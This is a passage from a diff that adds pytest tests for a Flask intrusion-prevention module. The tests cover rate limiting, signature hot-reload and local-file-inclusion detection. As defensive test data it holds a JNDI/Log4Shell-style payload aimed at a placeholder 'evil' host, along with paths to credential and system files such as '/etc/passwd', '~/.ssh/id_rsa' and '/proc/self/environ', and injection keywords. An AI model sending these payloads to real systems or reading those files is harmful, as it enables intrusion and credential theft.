+        # Другой ключ считается отдельно
+        assert backend.hit("other", rate, start + 1)[0], name
+        # После простоя idle_after состояние равно начальному: снова разрешён весь всплеск
+        later = start + rate.idle_after + 0.5
+        assert [backend.hit("k", rate, later)[0] for _ in range(6)] == [True] * 5 + [False], name
+
+
+def test_rate_algorithms_partial_recovery():
+    start = 1000.0
+    # Ведро и GCRA возвращают запросы равномерно: за window / max_requests — один
+    for name in ("token_bucket", "gcra"):
+        rate = intrusions.RateAlgorithm(name, 5, 10.0)
+        backend = intrusions.LocalRateBackend()
+        for _ in range(5):
+            backend.hit("k", rate, start)
+        assert not backend.hit("k", rate, start + 1.0)[0], name
+        assert backend.hit("k", rate, start + 2.1)[0], name
+        assert not backend.hit("k", rate, start + 2.2)[0], name
+    # Журнал освобождает место ровно через window после отметки
+    rate = intrusions.RateAlgorithm("log", 5, 10.0)
+    backend = intrusions.LocalRateBackend()
+    for _ in range(5):
+        backend.hit("k", rate, start)
+    assert not backend.hit("k", rate, start + 9.9)[0]
+    assert backend.hit("k", rate, start + 10.0)[0]
+
+
+def test_rate_limiter_rejects_request_over_limit():
+    for name in intrusions.RateAlgorithm.NAMES:
+        app = _App()
+        intrusions.RateLimiter(app, max_requests=3, window=60, algorithm=name)
+        client = app.flask.test_client()
+        assert [client.get("/").status_code for _ in range(4)] == [200, 200, 200, 429], name
+        assert client.get("/", environ_base={"REMOTE_ADDR": "192.0.2.9"}).status_code == 200, name
+
+
+# ─── Горячая перезагрузка сигнатур ────────────────────────────
+
+def test_signature_reload_keeps_previous_set_on_error(tmp_path):
+    import json
+    detector = intrusions.SignatureDetector
+    detector._get_engine()
+    before = (detector.signatures, detector.severities, detector._engine)
+    db = tmp_path / "signatures_db.json"
+    db.write_text(json.dumps({"signatures": [{"name": "Only Frobnicate", "pattern": "frobnicate-\\d+"}]}))
+    reloader = intrusions._SignatureReloader(str(db), interval=3600)
+    try:
+        for broken in ('{"signatures": [', json.dumps({"signatures": []}),
+                       json.dumps({"signatures": [{"name": "Bad", "pattern": "("}]})):
+            db.write_text(broken)
+            assert not reloader.reload()
+            assert (detector.signatures, detector._engine) == before[::2]
+        assert reloader.errors == 3
+        assert _post(InspectionConfig(), "${jndi:ldap://evil/a}") == 400
+
+        db.write_text(json.dumps({"signatures": [{"name": "Only Frobnicate", "pattern": "frobnicate-\\d+"}]}))
+        assert reloader.reload()
+        assert list(detector.signatures) == ["Only Frobnicate"]
+        assert _post(InspectionConfig(), "frobnicate-42") == 400
+        assert _post(InspectionConfig(), "${jndi:ldap://evil/a}") == 200
+    finally:
+        reloader.stop()
+        detector._install(*before)
+
+
+def test_watch_db_swaps_in_changed_file(tmp_path):
+    import json
+    detector = intrusions.SignatureDetector
+    detector._get_engine()
+    before = (detector.signatures, detector.severities, detector._engine)
+    db = tmp_path / "signatures_db.json"
+    db.write_text(json.dumps({"signatures": [{"name": "Old", "pattern": "frobnicate-old"}]}))
+    reloader = detector.watch_db(str(db), interval=0.05)
+    try:
+        db.write_text('{"signatures": [{"name": "New"')
+        time.sleep(0.3)
+        assert reloader.errors >= 1 and detector.signatures is before[0]
+        db.write_text(json.dumps({"signatures": [{"name": "New", "pattern": "frobnicate-new"}]}))
+        deadline = time.monotonic() + 5
+        while reloader.reloads == 0 and time.monotonic() < deadline:
+            time.sleep(0.05)
+        assert list(detector.signatures) == ["New"]
+        assert _post(InspectionConfig(), "frobnicate-new") == 400
+    finally:
+        reloader.stop()
+        detector._reloader = None
+        detector._install(*before)
+
+
+# ─── Общее состояние RateLimiter между процессами ─────────────
+
+def _shared_rate_worker(path, requests):
+    """Процесс-нода: RateLimiter берёт файл состояния из переменной окружения, как при LocalCluster."""
+    os.environ[intrusions.SHARED_RATE_ENV] = path
+    app = _App()
+    limiter = intrusions.RateLimiter(app, max_requests=15, window=3600, algorithm="gcra")
+    assert isinstance(limiter.backend, intrusions.SharedMemoryRateBackend)
+    client = app.flask.test_client()
+    return [client.get("/").status_code for _ in range(requests)]
+
+
+def test_shared_rate_state_across_processes(tmp_path):
+    import multiprocessing
+    from concurrent.futures import ProcessPoolExecutor
+    path = intrusions.SharedMemoryRateBackend.create(str(tmp_path / "rate.shm"), capacity=64)
+    with ProcessPoolExecutor(4, mp_context=multiprocessing.get_context("spawn")) as executor:
+        statuses = sum(executor.map(_shared_rate_worker, [path] * 4, [10] * 4), [])
+    # 40 запросов от одного IP в четырёх процессах — лимит 15 на всех
+    assert statuses.count(200) == 15 and statuses.count(429) == 25
+
+    # Повторное подключение к файлу видит счётчики, накопленные другими процессами
+    app = _App()
+    intrusions.RateLimiter(app, max_requests=15, window=3600, algorithm="gcra", shared_path=path)
+    client = app.flask.test_client()
+    assert client.get("/").status_code == 429
+    assert client.get("/", environ_base={"REMOTE_ADDR": "192.0.2.1"}).status_code == 200
+
+
+def test_shared_rate_state_rejects_foreign_file(tmp_path):
+    import pytest
+    foreign = tmp_path / "not-state.bin"
+    foreign.write_bytes(b"\0" * 8192)
+    with pytest.raises(ValueError):
+        intrusions.SharedMemoryRateBackend(str(foreign))
+
+
+def test_local_cluster_passes_rate_state_to_nodes(monkeypatch, tmp_path):
+    from sec import auto_cluster
+    started = []
+    monkeypatch.setattr(auto_cluster.subprocess, "Popen",
+                        lambda args, env: started.append(env) or type("Proc", (), {"pid": 1})())
+    cluster = auto_cluster.LocalCluster(_App(), ports=[5000, 5001], rate_limit_capacity=64)
+    cluster._create_rate_state()
+    path = cluster._rate_state_path
+    try:
+        assert path and os.path.exists(path)
+        intrusions.SharedMemoryRateBackend(path)
+        for port, role in ((5000, "master"), (5001, "slave")):
+            cluster._roles[port] = role
+            cluster._start_node(port)
+        assert [env[intrusions.SHARED_RATE_ENV] for env in started] == [path, path]
+    finally:
+        cluster._processes.clear()
+        cluster.shutdown()
+    assert not os.path.exists(path)
+
+
+# ─── Режим атаки RateLimiter (count-min скетч) ────────────────
+
+def test_sketch_limits_heavy_hitters_within_error_bound():
+    import math
+    import random
+    backend = intrusions.SketchRateBackend(memory=32 * 1024, depth=4, heavy_hitters=16)
+    rate = intrusions.RateAlgorithm("sliding_window", 20, 3600.0)
+    now = 3600.0 * 1000 + 1.0
+    heavy = [f"heavy-{i}" for i in range(5)]
+    tail = [f"tail-{i}" for i in range(6000)]
+    hits = [key for key in heavy for _ in range(200)] + tail
+    random.Random(3).shuffle(hits)
+    allowed = dict.fromkeys(heavy, 0)
+    tail_errors = []
+    for key in hits:
+        ok, load = backend.hit(key, rate, now)
+        if key in allowed:
+            allowed[key] += ok
+        else:
+            # Оценка count-min не меньше истинного счёта (1) — только завышение
+            assert load >= 1
+            tail_errors.append(load - 1)
+    # Тяжёлые ключи ограничены лимитом, а не пропускают весь поток
+    assert all(count <= 20 for count in allowed.values()), allowed
+    assert {key for key, _ in backend.top(5)} == set(heavy)
+    # Гарантия count-min: завышение не больше e/width * N с вероятностью 1 - e^-depth
+    bound = math.e / backend.width * len(hits)
+    over = sum(error > bound for error in tail_errors)
+    assert over <= math.exp(-backend.depth) * len(tail)
+    assert bound < rate.max_requests - 1
+    rejected_tail = sum(error >= rate.max_requests - 1 for error in tail_errors)
+    assert rejected_tail <= over
+
+
+# ─── Правила лимитов маршрутов и ключей ───────────────────────
+
+def test_route_and_key_policies_apply_together():
+    from sec.intrusions import RatePolicy
+    app = _App()
+    limiter = intrusions.RateLimiter(app, max_requests=6, window=60, policies=[
+        RatePolicy("api", 3, 60, key="header:X-API-Key", routes=["/api/"]),
+    ])
+
+    @app.flask.route("/api/items")
+    def items():
+        return "items"
+
+    @app.flask.route("/login", methods=["POST"])
+    @limiter.limit(2, 60, methods=["POST"])
+    def login():
+        return "login"
+
+    client = app.flask.test_client()
+
+    def get(path, ip, api_key=None):
+        headers = {"X-API-Key": api_key} if api_key else {}
+        return client.get(path, headers=headers, environ_base={"REMOTE_ADDR": ip}).status_code
+
+    # Лимит ключа API общий для всех адресов и не задевает другие ключи
+    assert [get("/api/items", "192.0.2.1", "key-a") for _ in range(4)] == [200, 200, 200, 429]
+    assert get("/api/items", "192.0.2.2", "key-b") == 200
+    assert get("/api/items", "192.0.2.2", "key-a") == 429
+    # Без заголовка правило ключа не применяется, действует лимит адреса
+    assert [get("/api/items", "192.0.2.3") for _ in range(7)] == [200] * 6 + [429]
+    # Правило маршрута вне /api/ не применяется
+    assert [get("/", "192.0.2.4", "key-a") for _ in range(6)] == [200] * 6
+    # Декоратор маршрута и лимит адреса действуют вместе
+    post_login = [client.post("/login", environ_base={"REMOTE_ADDR": "192.0.2.5"}).status_code for _ in range(3)]
+    assert post_login == [200, 200, 429]
+    assert [get("/", "192.0.2.5") for _ in range(4)] == [200, 200, 200, 429]
+
+
+# ─── Контекст инспекции ───────────────────────────────────────
+
+def test_inspection_context_is_built_once_per_request(monkeypatch):
+    import json
+    built, flattened, seen = [], [], []
+    from_request = intrusions.InspectionContext.from_request.__func__
+    iter_strings = intrusions._JsonFlattener.iter_strings
+    monkeypatch.setattr(intrusions.InspectionContext, "from_request",
+                        classmethod(lambda cls, *a, **kw: built.append(1) or from_request(cls, *a, **kw)))
+    monkeypatch.setattr(intrusions._JsonFlattener, "iter_strings",
+                        lambda self, data: flattened.append(1) or iter_strings(self, data))
+
+    class Probe(intrusions.BaseDetector):
+        def run(self):
+            seen.append((self.context, intrusions._get_all_input_values(), intrusions._get_request_full_data()))
+
+    app = _App()
+    ips = IPS(app)
+    ips.add_detector(Probe)
+    ips.add_detector(Probe)
+    client = app.flask.test_client()
+    body = json.dumps({"user": {"name": "alice", "tags": ["a", "b"]}})
+    for _ in range(2):
+        assert client.post("/?page=2", data=body, content_type="application/json").status_code == 200
+    # Один контекст и один разбор JSON на запрос, сколько бы детекторов его ни читали
+    assert len(built) == 2 and len(flattened) == 2
+    (first, values, full), (second, _, _), (third, _, _), _ = seen
+    assert first is second and first is not third
+    assert values == ["2", "alice", "a", "b"]
+    assert "/?page=2" in full and '"alice"' in full
+
+
+# ─── Поиск литералов (_LiteralMatcher) ────────────────────────
+
+def _naive_literals(literals, text, ignore_case, word_chars):
+    import re
+    found = set()
+    for lit in literals:
+        pattern = re.escape(lit)
+        if word_chars:
+            pattern = f"(?<!{word_chars}){pattern}(?!{word_chars})"
+        if re.search(pattern, text, re.IGNORECASE if ignore_case else 0):
+            found.add(lit)
+    return found
+
+
+def test_literal_matcher_matches_naive_search():
+    import random
+    rng = random.Random(11)
+    small = ["or", "order", "ord", "<script", "<s", "union", "select", "--", "/*", "../"]
+    large = small + [f"kw{i}x" for i in range(80)]
+    alphabet = ["or", "der", "d", "<", "script", "s", "UNION", "Select", "-", "/", "*", ".", " ", "_", "x", "kw1", "kw42x", "é"]
+    texts = ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 40))) for _ in range(400)]
+    for literals in (small, large):
+        for ignore_case, word_chars in ((False, None), (True, None), (True, r"[^\W_]")):
+            matcher = intrusions._LiteralMatcher(dict.fromkeys(literals, "cat"), ignore_case=ignore_case,
+                                                 word_chars=word_chars, fold=str.upper)
+            for text in texts:
+                expected = _naive_literals(literals, text, ignore_case, word_chars)
+                found = matcher.findall(text)
+                assert set(found) == expected, (text, ignore_case, word_chars)
+                first = matcher.search(text)
+                assert (first is None) == (not expected) and (first is None or first in expected), text
+                if text.isascii():
+                    data = text.encode()
+                    assert matcher.search(data) == first and matcher.search(memoryview(data)) == first, text
+
+
+# ─── Индекс путей (LFIDetector) ───────────────────────────────
+
+def test_sensitive_path_index(tmp_path):
+    for rel in ("app.py", "config/settings.yaml", "node_modules/lib/x.js", ".git/HEAD"):
+        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
+        (tmp_path / rel).write_text("")
+    index = intrusions._SensitivePathIndex([str(tmp_path)], cache_size=2)
+    for value in ("config/settings.yaml", "./config//settings.yaml", "config\\settings.yaml",
+                  f"{tmp_path}/app.py", "/etc/passwd", "/ETC/shadow", "c:\\Windows\\win.ini",
+                  "~/.ssh/id_rsa", ".env", ".git/config", "/proc/self/environ"):
+        assert index.contains(value), value
+    for value in ("hello", "docs/install", "/etcetera/passwd", "config/missing.yaml",
+                  "node_modules/lib/x.js", "/account/id", "v1.2"):
+        assert not index.contains(value), value
+    # Отрицательный кеш ограничен
+    assert len(index._negative) == 2
+
+
+def test_lfi_index_mode_does_not_touch_filesystem(monkeypatch):
+    monkeypatch.setattr(intrusions.LFIDetector, "_path_index", intrusions._SensitivePathIndex([]))
+
+    def exists(path):
+        raise AssertionError(f"os.path.exists({path!r})")
+
+    app = _App()
+    IPS(app)
+    monkeypatch.setattr(intrusions.os.path, "exists", exists)
+    client = app.flask.test_client()
+    assert client.get("/?file=/etc/passwd").status_code == 400
+    assert client.get("/?file=docs/readme.txt").status_code == 200
+
+
+# ─── Адаптивный порядок детекторов ────────────────────────────
+
+def test_adaptive_order_runs_cheap_triggering_detectors_first():
+    calls = []
+
+    class Slow(intrusions.BaseDetector):
+        def run(self):
+            calls.append("slow")
+            time.sleep(0.002)
+
+    class Cheap(intrusions.BaseDetector):
+        def run(self):
+            calls.append("cheap")
+            if "attack" in self.context.full_path:
+                self.trigger_response()
+
+    app = _App()
+    ips = intrusions.IPS(app, adaptive=True, reschedule_interval=10)
+    ips.detectors = []
+    ips.add_detector(Slow)
+    ips.add_detector(Cheap)
+    client = app.flask.test_client()
+    for i in range(9):
+        client.get(f"/?q={'attack' if i % 3 == 0 else 'hello'}")
+    # До пересчёта порядок — порядок добавления
+    assert [type(d).__name__ for d in ips._schedule] == ["Slow", "Cheap"]
+    client.get("/?q=hello")
+    assert [type(d).__name__ for d in ips.reschedule()] == ["Cheap", "Slow"]
+
+    calls.clear()
+    assert client.get("/?q=attack").status_code == 400
+    assert calls == ["cheap"]
+    # Порядок не меняет вердикт: без срабатывания запускаются все детекторы
+    calls.clear()
+    assert client.get("/?q=hello").status_code == 200
+    assert calls == ["cheap", "slow"]
+    assert ips.stats["Slow"].calls == 11 and ips.stats["Cheap"].triggers == 4